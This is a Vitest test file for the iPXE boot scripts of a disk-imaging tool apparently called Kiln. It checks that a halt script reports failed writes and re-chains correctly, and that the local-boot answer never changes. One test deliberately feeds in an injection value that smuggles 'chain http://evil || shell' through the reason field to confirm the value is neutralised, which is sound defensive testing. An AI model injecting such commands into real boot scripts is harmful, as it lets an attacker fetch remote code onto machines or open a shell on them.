import { describe, expect, it } from "vitest";
import { checkIpxe } from "./checks";
import { haltScript, localBootScript } from "./scripts";

describe("the halt script", () => {
  const s = haltScript({ reason: "Verify the written image: checksum mismatch: expected aa, got bb", recheckUrl: "http://10.0.2.100/boot/52-54-00-12-34-56" });

  it("says why, never leaves for the chain script's local boot, and asks Kiln again in place", () => {
    expect(s).toMatch(/^#!ipxe\n/);
    expect(s).toContain("echo Kiln: the last write to this machine's disk failed or was cancelled: Verify the written image: checksum mismatch: expected aa, got bb");
    expect(s).not.toMatch(/^\s*(exit|sanboot)\b/m);
    expect(s).toContain("poweroff ||");
    expect(s).toContain("chain --replace --autofree http://10.0.2.100/boot/52-54-00-12-34-56 || goto halt");
    expect(s.trimEnd().split("\n").at(-1)).toBe("goto halt");
    expect(checkIpxe(s)).toEqual([]);
  });

  it("cannot be made to run other commands by its reason", () => {
    const evil = haltScript({ reason: "x\nchain http://evil || shell && ${net0/mac} \u0000", recheckUrl: "http://k/boot/m" });
    const echo = evil.split("\n").find((l) => l.includes("evil"));
    expect(echo).toMatch(/^echo Kiln: .*: x chain http:\/\/evil\s+shell\s+ \{net0\/mac\}/);
    expect(evil.split("\n").filter((l) => /^(chain|shell)/.test(l))).toEqual(["chain --replace --autofree http://k/boot/m || goto halt"]);
    expect(checkIpxe(evil)).toEqual([]);
  });
});

describe("the local-boot answer", () => {
  it("names no host: the same bytes every time", () => {
    expect(localBootScript()).toBe(localBootScript());
    expect(localBootScript()).toContain("this machine boots from its local disk");
    expect(checkIpxe(localBootScript())).toEqual([]);
  });
});
